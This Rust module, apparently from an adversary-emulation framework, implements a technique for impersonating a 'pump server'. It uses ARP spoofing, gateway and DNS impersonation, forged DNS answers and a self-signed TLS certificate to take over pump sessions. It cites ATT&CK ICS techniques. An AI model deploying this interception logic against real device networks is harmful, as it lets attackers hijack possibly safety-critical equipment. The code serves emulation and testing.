//! Answers for the address of a pump server and takes the sessions of pumps that believe it.

use super::craft::contact::Contact;
use super::craft::part;
use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::{Input, SocketEvent};
use crate::parameters::{Host, Parameters, Port};
use crate::time::Duration;
use crate::wire::dns::{Dns, PORT as DNS_PORT};
use crate::wire::{Ip, Message};

/// Technique `spoof-server`.
#[derive(Debug)]
pub(super) struct SpoofServer;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Server to impersonate.
    server: Host,
    /// The server's port.
    #[param(default = 8100, port_of = "server")]
    port: Port,
}

/// What an attempt remembers.
#[derive(Clone, Debug, Default)]
pub(super) struct State {
    contact: Contact,
    /// Messages that came in on streams.
    heard: u32,
}
part!(State.contact: Contact);

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, SpoofServer>;

static ENTRY: Entry = Entry {
    id: "spoof-server",
    title: "Impersonate a pump server",
    summary: "Claims the server's address on its own segment by unasked ARP answers, or the gateway's and the name server's if the server is \
              elsewhere, listens on the server's port, and greets pumps as their server would; where a pump wants TLS it shows a certificate that it made itself. Succeeds \
              when a pump takes it for its server.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1557.002", "T0830", "T0848"],
};

const ANNOUNCE: Duration = Duration::from_secs(2);

fn claim(step: &mut Step<'_, '_, '_>, server: Ip) -> Progress {
    step.state.contact.target = Some(server);
    step.hands.listen(step.params.port.0);
    announce(step, server);
    step.hands.timer(ANNOUNCE, 1);
    Progress::Reached(1)
}

/// On the server's own segment its address is enough; elsewhere the attacker steps in for the gateway, and then has to answer for the name
/// server too, which pumps would no longer reach.
fn announce(step: &mut Step<'_, '_, '_>, server: Ip) {
    step.hands.impersonate(server);
    if step.hands.on_link(server) {
        return;
    }
    if let Some(dns) = step.hands.dns() {
        step.hands.impersonate(dns);
        step.hands.bind(DNS_PORT);
    }
    if let Some(gateway) = step.hands.gateway() {
        step.hands.announce(gateway);
    }
}

/// Answers a pump that asks the name server for the server's name.
fn answer_name(step: &mut Step<'_, '_, '_>, from: (Ip, u16), message: &Message) {
    let (Some(dns), Some(server)) = (step.hands.dns(), step.state.contact.target) else {
        return;
    };
    if let Message::Dns(Dns::Query { id, name }) = message
        && **name == *step.params.server
    {
        let answer = Dns::Answer {
            id: *id,
            name: name.clone(),
            ip: Some(server),
        };
        step.hands
            .datagram_as((dns, DNS_PORT), from, Message::Dns(answer));
    }
}

impl Technique for SpoofServer {
    type Params = Params;
    type State = State;
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &[
        "find",
        "claim the address",
        "pump connects",
        "pump believes",
    ];

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        let name = &step.params.server;
        match input {
            Input::Begin => match step.find(name) {
                Some(ip) => claim(step, ip),
                None => Progress::Wait,
            },
            Input::Socket(SocketEvent::Resolved { ip: Some(ip), .. }) => {
                step.found(name, *ip);
                claim(step, *ip)
            }
            Input::Socket(SocketEvent::Resolved { ip: None, .. }) => {
                Progress::Failed("no such name, or no name server")
            }
            Input::Timer(1) => {
                if let Some(server) = step.state.contact.target {
                    announce(step, server);
                }
                step.hands.timer(ANNOUNCE, 1);
                Progress::Wait
            }
            Input::Socket(SocketEvent::Datagram { from, message, .. }) => {
                answer_name(step, *from, message);
                Progress::Wait
            }
            Input::Socket(SocketEvent::Accepted { stream, .. }) => {
                step.capture(*stream);
                Progress::Reached(2)
            }
            Input::Socket(SocketEvent::Message { stream, message }) => {
                step.state.heard += 1;
                step.greet(step.state.heard, (*stream, message), name)
            }
            _ => Progress::Wait,
        }
    }
}
